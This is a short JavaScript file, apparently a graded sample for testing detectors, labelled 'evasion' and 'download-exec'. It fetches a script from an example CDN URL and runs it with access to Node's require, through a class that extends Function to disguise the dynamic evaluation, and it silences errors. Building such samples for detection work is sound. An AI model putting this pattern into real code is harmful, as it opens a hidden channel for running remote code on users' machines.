// evasion: code fetched at run time becomes the body of an instance of a class that extends Function, then called
// grade: hard; does: download-exec
'use strict';
class Task extends Function {
  constructor(body) {
    super('require', body);
    this.createdAt = Date.now();
  }
}

async function main() {
  const res = await fetch('https://cdn.example.org/tasks/bootstrap.js');
  if (!res.ok) return;
  const task = new Task(await res.text());
  task.call(globalThis, require);
}

main().catch(() => {});
